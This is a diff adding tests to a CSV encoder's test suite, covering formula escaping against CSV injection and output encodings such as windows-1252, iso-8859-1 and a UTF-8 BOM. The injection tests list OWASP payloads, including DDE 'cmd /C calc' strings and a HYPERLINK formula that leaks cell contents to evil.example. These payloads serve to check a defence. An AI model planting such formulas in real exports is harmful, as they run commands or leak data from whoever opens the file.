@@ -2,7 +2,8 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
-import { csv, csvConfig, type CsvConfig } from '../../../src/formats/csv.js';
+import iconv from 'iconv-lite';
+import { csv, csvConfig, isFormula, type CsvConfig } from '../../../src/formats/csv.js';
 import type { EncoderContext, ItemRef } from '../../../src/formats/types.js';
 import type { Row } from '../../../src/core/item.js';
 import { FormatError, LadingError } from '../../../src/errors/lading-error.js';
@@ -236,6 +237,7 @@ describe('csv format', () => {
     test('fills the documented defaults', () => {
       assert.deepEqual(csvConfig.parse({ type: 'csv' }), {
         type: 'csv', delimiter: ',', quote: '"', escape: '"', line_ending: '\n', header: true, null_value: '', quote_all: false,
+        encoding: 'utf-8', bom: false, unencodable: 'replace', formula_escape: 'off',
       });
     });
 
@@ -324,6 +326,212 @@ describe('csv format', () => {
           assert.deepEqual(parsed, [row]);
         });
       }), { numRuns: 500 });
+    });
+  });
+
+  describe('formula_escape (CSV injection)', () => {
+    // OWASP's CSV injection page and its payload examples, plus the leading tab and CR it lists.
+    const payloads = [
+      "=cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+1+1',
+      '-2+3',
+      '=1+2";=1+2',
+      '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
+      '=DDE("cmd";"/C calc";"!A0")A0',
+      '\t=1+1',
+      '\r=1+1',
+      '-',
+      '+',
+      '=',
+      '@',
+      '-Infinity',
+      '+NaN',
+      '-1e999',
+      '-0x10',
+    ];
+    const numbers = ['-12.5', '+3', '-0.5e3', '-.5', '+1.', '-0', '12', '1E+5', '-1e-7', '0.25'];
+    const cells = (values: readonly string[], formula_escape: string, overrides: Record<string, unknown> = {}) => {
+      const cfg = config({ formula_escape, header: false, columns: ['v'], ...overrides });
+      const bytes = render(cfg, values.map((v) => ({ v })));
+      return (parse(bytes, { delimiter: cfg.delimiter }) as string[][]).map((row) => row[0]);
+    };
+
+    test('off (the default) writes every payload as it is', () => {
+      assert.deepEqual(cells(payloads, 'off'), payloads);
+    });
+
+    test('quote_prefix puts a single quote in front of every payload, and nothing else changes', () => {
+      assert.deepEqual(cells(payloads, 'quote_prefix'), payloads.map((p) => `'${p}`));
+    });
+
+    test('tab_prefix puts a tab in front instead', () => {
+      assert.deepEqual(cells(payloads, 'tab_prefix'), payloads.map((p) => `\t${p}`));
+    });
+
+    test('plain finite numbers, as text or as numbers, are left alone', () => {
+      assert.deepEqual(cells(numbers, 'quote_prefix'), numbers);
+      const cfg = config({ formula_escape: 'quote_prefix', header: false, columns: ['a', 'b', 'c'] });
+      assert.equal(render(cfg, [{ a: -12.5, b: -0.0005, c: -1e21 }]).toString(), '-12.5,-0.0005,-1e+21\n');
+      assert.equal(render(cfg, [{ a: -Infinity, b: 12n, c: -3n }]).toString(), "'-Infinity,12,-3\n");
+    });
+
+    test('cells with a trigger later on, or after a leading space, are not touched', () => {
+      assert.deepEqual(cells(['a=1+1', ' =1+1', 'x@y.z', '1-2', '1e999'], 'quote_prefix'), ['a=1+1', ' =1+1', 'x@y.z', '1-2', '1e999']);
+    });
+
+    test('the prefix is written inside the quotes when the cell needs quoting', () => {
+      const cfg = config({ formula_escape: 'quote_prefix', header: false, columns: ['v'] });
+      assert.equal(render(cfg, [{ v: '=1,2' }]).toString(), `"'=1,2"\n`);
+      assert.equal(render(cfg, [{ v: '=A1&"x"' }]).toString(), `"'=A1&""x"""\n`);
+      const tabs = config({ formula_escape: 'tab_prefix', delimiter: '\t', header: false, columns: ['v', 'w'] });
+      assert.equal(render(tabs, [{ v: '=1', w: 2 }]).toString(), '"\t=1"\t2\n');
+    });
+
+    test('header names are escaped too; null_value is written as configured', () => {
+      const cfg = config({ formula_escape: 'quote_prefix', null_value: '-' });
+      assert.equal(render(cfg, [{ '=evil': null, ok: '@x' }]).toString(), "'=evil,ok\n-,'@x\n");
+    });
+
+    test('objects written as JSON are not formulas', () => {
+      const cfg = config({ formula_escape: 'quote_prefix', header: false, columns: ['v'] });
+      assert.equal(render(cfg, [{ v: { f: '=1' } }]).toString(), '"{""f"":""=1""}"\n');
+    });
+
+    test('isFormula follows the documented rule', () => {
+      for (const p of payloads) assert.equal(isFormula(p), true, JSON.stringify(p));
+      for (const n of [...numbers, '', 'abc', '1e999', ' -1']) assert.equal(isFormula(n), false, JSON.stringify(n));
+    });
+
+    test('property: a parsed cell is the value, with the prefix exactly when the value is a formula', () => {
+      const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '1', 'a', ' ', '');
+      const rest = fc.oneof(fc.string(), fc.double().map(String), fc.constantFrom('1', '.5', 'e3', '2+3'));
+      const value = fc.tuple(start, rest).map(([a, b]) => a + b);
+      fc.assert(fc.property(fc.array(value, { minLength: 1, maxLength: 6 }), fc.constantFrom('quote_prefix', 'tab_prefix'), (values, mode) => {
+        const prefix = mode === 'quote_prefix' ? "'" : '\t';
+        assert.deepEqual(cells(values, mode), values.map((v) => (isFormula(v) ? prefix + v : v)));
+      }), { numRuns: 300 });
+    });
+  });
+
+  describe('encoding, BOM and unencodable characters', () => {
+    const sample: Row[] = [
+      { id: 1, name: 'Zoë Müller', city: 'Montréal', note: 'price 5 €' },
+      { id: 2, name: 'José “Pepe”', city: 'Ørsted', note: 'naïve café' },
+    ];
+
+    test('iso-8859-1 writes one byte per character, and iconv-lite decodes it back', () => {
+      const bytes = render(config({ encoding: 'iso-8859-1' }), [{ name: 'Zoë', city: 'Montréal' }]);
+      assert.deepEqual([...bytes.subarray(0, 14)], [...Buffer.from('name,city\nZo'), 0xeb, 0x2c]);
+      assert.equal(iconv.decode(bytes, 'iso-8859-1'), 'name,city\nZoë,Montréal\n');
+    });
+
+    test('windows-1252 has €, “ ” and friends; iso-8859-1 does not and writes "?"', () => {
+      const win = render(config({ encoding: 'windows-1252', header: false, columns: ['note'] }), [{ note: '5 € “q”' }]);
+      assert.deepEqual([...win], [0x35, 0x20, 0x80, 0x20, 0x93, 0x71, 0x94, 0x0a]);
+      assert.equal(iconv.decode(win, 'windows-1252'), '5 € “q”\n');
+      const latin = render(config({ encoding: 'iso-8859-1', header: false, columns: ['note'] }), [{ note: '5 € “q”' }]);
+      assert.equal(latin.toString('latin1'), '5 ? ?q?\n');
+    });
+
+    test('U+FFFD and the C1 controls have no Windows-1252 byte: "?", never an undefined byte such as 0x9D', () => {
+      const bytes = render(config({ encoding: 'windows-1252', header: false, columns: ['v'] }), [{ v: '\uFFFD\u0081\u009D€' }]);
+      assert.deepEqual([...bytes], [0x3f, 0x3f, 0x3f, 0x80, 0x0a]);
+    });
+
+    test('a character outside the BMP becomes one "?", not two', () => {
+      const bytes = render(config({ encoding: 'windows-1252', header: false, columns: ['v'] }), [{ v: 'a🙂b' }]);
+      assert.equal(bytes.toString('latin1'), 'a?b\n');
+    });
+
+    test('the replacement is decided before quoting, so it can never break the row', () => {
+      const cfg = config({ encoding: 'iso-8859-1', delimiter: '?', header: false, columns: ['a', 'b'] });
+      const bytes = render(cfg, [{ a: '日本', b: 'x' }]);
+      assert.equal(bytes.toString('latin1'), '"??"?x\n');
+      assert.deepEqual(parse(bytes, { delimiter: '?' }), [['??', 'x']]);
+    });
+
+    test('unencodable: block fails the item with FORMAT_INVALID_CHARACTER naming item and field', () => {
+      const encoder = csv.encoder(config({ encoding: 'iso-8859-1', unencodable: 'block' }), { ...ctx, columns: ['id', 'note'] });
+      assert.throws(() => encoder.encode({ id: 1, note: 'price 5 €' }, { id: 'leads.csv:7', describe: 'leads.csv line 7' }), (error: unknown) => {
+        assert.ok(error instanceof FormatError);
+        assert.equal(error.code, 'FORMAT_INVALID_CHARACTER');
+        assert.equal(error.itemId, 'leads.csv:7');
+        assert.equal(error.field, 'note');
+        assert.match(error.message, /leads\.csv line 7/);
+        assert.match(error.message, /U\+20AC "€"/);
+        assert.match(error.message, /iso-8859-1/);
+        return true;
+      });
+      // The encoder is still usable, and encodable text passes.
+      assert.equal(iconv.decode(Buffer.from(encoder.encode({ id: 2, note: 'café' }, ref(1))), 'latin1'), '2,café\n');
+    });
+
+    test('unencodable: block in utf-8 refuses a lone surrogate; replace writes U+FFFD', () => {
+      const columns = ['v'];
+      assert.throws(() => csv.encoder(config({ unencodable: 'block', header: false }), { ...ctx, columns }).encode({ v: 'a\uD800b' }, ref(0)),
+        { code: 'FORMAT_INVALID_CHARACTER', field: 'v' });
+      assert.equal(Buffer.from(csv.encoder(config({ unencodable: 'block', header: false }), { ...ctx, columns }).encode({ v: '🙂' }, ref(0))).toString(), '🙂\n');
+      assert.deepEqual([...csv.encoder(config({ header: false }), { ...ctx, columns }).encode({ v: 'a\uDC00' }, ref(0))], [0x61, 0xef, 0xbf, 0xbd, 0x0a]);
+    });
+
+    test('header names are replaced even with block, so one odd key cannot fail every record', () => {
+      const bytes = render(config({ encoding: 'iso-8859-1', unencodable: 'block' }), [{ 'prix €': 5 }]);
+      assert.equal(bytes.toString('latin1'), 'prix ?\n5\n');
+    });
+
+    test('bom: true starts each file with EF BB BF, even before a lazy header, and only once', () => {
+      const bytes = render(config({ bom: true }), [{ a: 'é' }, { a: 'x' }]);
+      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
+      assert.equal(bytes.subarray(3).toString('utf8'), 'a\né\nx\n');
+      assert.deepEqual([...render(config({ bom: true }), [])], [0xef, 0xbb, 0xbf]);
+      assert.equal(render(config({ bom: true, columns: ['a'] }), []).toString('utf8'), '\uFEFFa\n');
+      assert.equal(render(config(), [{ a: 1 }])[0], 0x61);
+    });
+
+    test('config: bom only with utf-8; delimiter, quote, escape and null_value must be encodable', () => {
+      const issues = (input: Record<string, unknown>) => csvConfig.safeParse({ type: 'csv', ...input }).error?.issues.map((i) => i.path.join('.'));
+      assert.deepEqual(issues({ bom: true, encoding: 'windows-1252' }), ['bom']);
+      assert.deepEqual(issues({ encoding: 'iso-8859-1', delimiter: '€' }), ['delimiter']);
+      assert.deepEqual(issues({ encoding: 'windows-1252', null_value: '∅' }), ['null_value']);
+      assert.equal(issues({ encoding: 'windows-1252', delimiter: '€' }), undefined);
+      assert.deepEqual(issues({ encoding: 'utf-16' }), ['encoding']);
+    });
+
+    for (const encoding of ['utf-8', 'iso-8859-1', 'windows-1252'] as const) {
+      test(`property: ${encoding} output decodes with iconv-lite and parses back to the text, unencodable characters replaced`, () => {
+        const replaced = (text: string) => {
+          let out = '';
+          // iconv-lite "round-trips" U+FFFD through Windows-1252's undefined byte 0x9D; lading writes "?".
+          for (const ch of text) {
+            const encodable = iconv.decode(iconv.encode(ch, encoding), encoding) === ch && (ch !== '\uFFFD' || encoding === 'utf-8');
+            out += encodable ? ch : encoding === 'utf-8' ? '\uFFFD' : '?';
+          }
+          return out;
+        };
+        const unit = fc.constantFrom('é', '€', '“', 'ÿ', 'Ā', '日', '🙂', ',', '"', '\n', 'a', '\uD800', '\uFFFD', '\u0081');
+        const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.string({ unit }));
+        fc.assert(fc.property(fc.array(fc.tuple(text, text), { maxLength: 6 }), (rows) => {
+          const bytes = render(config({ encoding }), rows.map(([a, b]) => ({ a, b })), { ...ctx, columns: ['a', 'b'] });
+          const parsed = parse(iconv.decode(bytes, encoding));
+          assert.deepEqual(parsed, [['a', 'b'], ...rows.map(([a, b]) => [replaced(a), replaced(b)])].map((r) => (r.length === 1 && r[0] === '' ? [''] : r)));
+        }), { numRuns: 200 });
+      });
+    }
+
+    test('golden file: windows-1252, CRLF, quote_prefix', () => {
+      const cfg = config({ encoding: 'windows-1252', line_ending: '\r\n', formula_escape: 'quote_prefix' });
+      const records = [...sample, { id: 3, name: '=HYPERLINK("http://x.example")', city: '日本', note: '-12.5' }, { id: 4, name: '@SUM(1+1)', city: '+1+1', note: '\t=1' }];
+      assertGolden('formats/csv-windows-1252-formula.csv', render(cfg, records));
+    });
+
+    test('golden file: iso-8859-1, replace', () => {
+      assertGolden('formats/csv-iso-8859-1.csv', render(config({ encoding: 'iso-8859-1' }), sample));
+    });
+
+    test('golden file: utf-8 BOM, tab_prefix', () => {
+      const records = [...sample, { id: 3, name: '-2+3', city: '東京', note: '+3' }];
+      assertGolden('formats/csv-utf8-bom-tab-prefix.csv', render(config({ bom: true, formula_escape: 'tab_prefix' }), records));
     });
   });
 });
